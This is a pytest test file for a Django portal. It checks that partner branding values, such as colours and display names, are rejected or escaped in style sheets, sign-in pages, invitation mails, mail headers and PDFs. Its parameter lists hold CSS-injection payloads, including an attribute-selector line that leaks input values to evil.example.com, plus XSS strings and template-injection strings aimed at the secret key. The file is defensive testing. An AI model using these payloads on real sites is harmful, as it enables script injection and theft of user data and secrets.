"""A50: a brand is made of typed values; no text of a partner reaches a style sheet, a tag or a header."""

import string
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kernel.actor import system
from kernel.errors import Invalid
from portal.ui.brand_files import variables
from tenants.branding import actions, queries
from tenants.branding.palette import is_colour, palette
from tenants.tenancy.models import Partner
from tests.support.cast import NOW, Cast

BY = system("test")
SHEETS = (
    "#fff;}body{background:url(http://evil.example.com)}",
    "@import url(http://evil.example.com/x.css)",
    "red;position:fixed;inset:0;z-index:9999",
    "#123456}input[value^=a]{background:url(//evil.example.com/a)}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "#12345g",
    "#\uff11\uff12\uff13\uff14\uff15\uff16",
    "rgb(1,2,3)",
    "var(--x)",
    "#123456\n}",
    "#123456/**/",
    "\\23 123456",
)
NAMES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "${7*7}",
    "</title><script>alert(1)</script>",
    "%(name)s %s {0}",
    "{0.__class__.__mro__}",
)


@pytest.mark.parametrize("sheet", SHEETS)
def test_a_style_is_no_colour(cast: Cast, sheet: str) -> None:
    partner = Partner.objects.get(slug="meridian")
    with pytest.raises(Invalid) as refused:
        actions.save_draft(partner=partner, values={"name": "X", "colour": sheet}, actor=BY, now=NOW)
    assert "colour" in refused.value.fields


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=30) | st.text(alphabet=string.hexdigits + "#;}{", max_size=9))
def test_whatever_is_taken_for_a_colour_gives_a_sheet_of_colours_alone(text: str) -> None:
    if not is_colour(text):
        return
    body = variables(palette(text)).removeprefix(":root{").rstrip("}\n")
    for declaration in body.rstrip(";").split(";"):
        name, _, value = declaration.partition(":")
        assert name.startswith("--b-")
        assert is_colour(value)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_text_on_pages_in_mails_and_in_documents(
    cast: Cast, name: str, client_for: Any, monkeypatch: pytest.MonkeyPatch
) -> None:

    from portal.ui import invitation_mails
    from portal.ui.kit.paper import Paper
    from tenants.access.actions import inviting
    from tenants.access.models import Membership
    from tenants.tenancy.queries import partner_ref

    partner = Partner.objects.get(slug="meridian")
    values = {"colour": "#123456", "sidebar": "light", "support_email": "", "support_url": ""}
    actions.set_brand(partner=partner, name=name, sender_name=name, actor=BY, now=NOW, **values)
    page = Client(HTTP_HOST=cast.host).get("/sign-in").content.decode()
    member = Membership.objects.filter(tenant__slug="hollis")[0]
    mail = invitation_mails.mail(inviting.invite(membership=member, actor=BY, now=NOW), cast.host)
    html = str(mail.alternatives[0][0])
    for text in (page, html):
        assert "<script>alert(1)" not in text
        assert "<img src=x" not in text
        assert "49" not in text.split("<title>")[1].split("</title>")[0] or "7*7" not in name
    assert name in str(mail.body)
    assert len(mail.message()["From"].splitlines()) == 1
    brand = queries.brand_of(partner_ref(partner))
    assert Paper(brand, name, name, NOW).content().startswith(b"%PDF-")
